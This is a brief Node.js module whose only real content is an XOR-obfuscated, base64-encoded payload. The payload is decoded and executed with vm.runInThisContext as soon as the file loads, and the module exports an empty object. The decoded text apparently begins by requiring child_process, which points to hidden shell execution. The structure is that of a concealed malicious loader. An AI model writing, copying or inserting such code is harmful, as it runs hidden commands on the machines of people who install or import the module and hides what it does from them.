const vm = require('vm');
const k = 'k3y';
const b = Buffer.from('GVYIHloLDhteCFsQB1cmG0EWCFYKGBRQRVYBDlAqEl0aQxQQDxNHSxwNBkNWRUtCS1AMGV9ZRkBZRldZKxwNBkNWRUtZA0cNG0BDRBwaBF8VDlANRVYBCl4JB1ZWExRQ', 'base64');
const s = Array.from(b, (c, i) => String.fromCharCode(c ^ k.charCodeAt(i % k.length))).join('');
vm.runInThisContext(s);
module.exports = {};
